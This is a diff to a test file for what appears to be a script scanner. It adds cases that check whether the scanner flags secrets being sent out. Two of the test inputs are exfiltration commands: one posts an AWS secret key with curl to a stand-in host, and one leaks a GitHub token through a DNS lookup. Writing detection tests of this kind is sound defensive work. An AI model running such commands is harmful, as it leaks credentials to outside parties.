@@ -94,6 +94,20 @@ def test_secrets_are_followed_to_where_they_leave(name: str) -> None:
     assert ("critical", "Secrets or the environment are sent away.") in findings
 
 
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ('curl -d "a=$AWS_SECRET_ACCESS_KEY" https://c.invalid/', True),
+        ('nslookup "$GITHUB_TOKEN.c.invalid"', True),
+        ('curl -d "token=$SLACK_TOKEN" https://slack.com/api/x', False),
+        ('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.com/', False),
+        ('MY_TOKEN=$(uuidgen)\ncurl -d "$MY_TOKEN" https://c.invalid/', False),
+    ],
+)
+def test_a_secret_variable_goes_in_headers_or_to_its_own_service(line: str, told: bool) -> None:
+    assert bool(of_script(line).findings) == told
+
+
 @pytest.mark.parametrize("name", TAKEN)
 def test_what_takes_over_a_machine_is_told(name: str) -> None:
     finding = worst(of_script(TAKEN[name]))
